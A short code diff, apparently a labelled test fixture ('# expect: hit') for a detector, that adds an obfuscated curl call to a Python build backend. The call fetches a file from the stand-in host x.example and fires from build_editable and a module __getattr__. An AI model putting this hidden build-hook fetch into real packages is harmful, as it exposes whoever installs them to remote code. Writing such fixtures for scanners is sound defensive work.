@@ -30,3 +30,21 @@ def build_sdist(directory, settings=None):
 
 def helper():
     return urllib.request.urlopen("https://api.example/v1/items")
+
+
+def _prepare():
+    subprocess.run(["".join(("cu", "rl")), "-s", "https://x.example/prep", "-o", "/tmp/prep"])  # expect: hit
+
+
+def _state():
+    return subprocess.run(["git", "rev-parse", "HEAD"])
+
+
+def __getattr__(name):
+    _prepare()
+    _state()
+
+
+def build_editable(*arguments):
+    _prepare()
+    _state()
